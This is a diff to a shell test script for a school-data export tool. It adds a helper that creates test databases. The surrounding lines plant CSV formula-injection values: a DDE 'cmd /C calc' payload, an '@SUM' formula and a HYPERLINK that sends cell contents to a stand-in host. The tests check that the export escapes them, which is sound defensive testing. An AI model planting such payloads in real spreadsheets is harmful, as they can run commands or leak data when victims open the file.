@@ -210,8 +210,10 @@ awk -F, 'BEGIN { OFS = "," }
 	NR == 4 { $2 = "+cmd|'"'"' /C calc'"'"'!A0"; print $0 ","; next }
 	NR == 5 { $2 = "@SUM(1+1)"; print $0 ","; next }
 	{ print $0 "," }' "$S/schools-2024.csv" >"$tmp/inj.csv"
+# newdb DB FILE: a new database holding the areas and FILE.
+newdb() { "$J" init "$1" >/dev/null; "$J" import "$1" "$S/areas.csv" "$2" >/dev/null; }
 IDB=$tmp/inj.db
-"$J" init "$IDB" >/dev/null; "$J" import "$IDB" "$S/areas.csv" "$tmp/inj.csv" >/dev/null
+newdb "$IDB" "$tmp/inj.csv"
 run "export formulas" 0 export "$IDB" --year 2024 -o "$tmp/inj-e.csv"
 has "guard: =1+1" "$tmp/inj-e.csv" "2136990101,'=1+1,369901,"
 has "guard: HYPERLINK" "$tmp/inj-e.csv" "2136990102,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",369901,"
@@ -244,7 +246,7 @@ awk 'NR == 1 { print $0 ",备注"; next }
 	NR == 4 { s = ""; for (i = 0; i < 40000; i++) s = s "长"; print $0 "," s; next }
 	{ print $0 "," }' "$S/schools-2024.csv" >"$tmp/long.csv"
 LDB=$tmp/long.db
-"$J" init "$LDB" >/dev/null; "$J" import "$LDB" "$S/areas.csv" "$tmp/long.csv" >/dev/null
+newdb "$LDB" "$tmp/long.csv"
 run "xlsx: cell too long" 2 export "$LDB" --year 2024 -o "$tmp/long.xlsx"
 has "too long: names the cell" "$tmp/err" "long.xlsx[学校]:第4行:第34列(备注): 学校 2136990103 的这个值有 40,000 个字符,超过 XLSX 单元格能存的 32,767 个字符"
 has "too long: not written" "$tmp/err" "未写入"
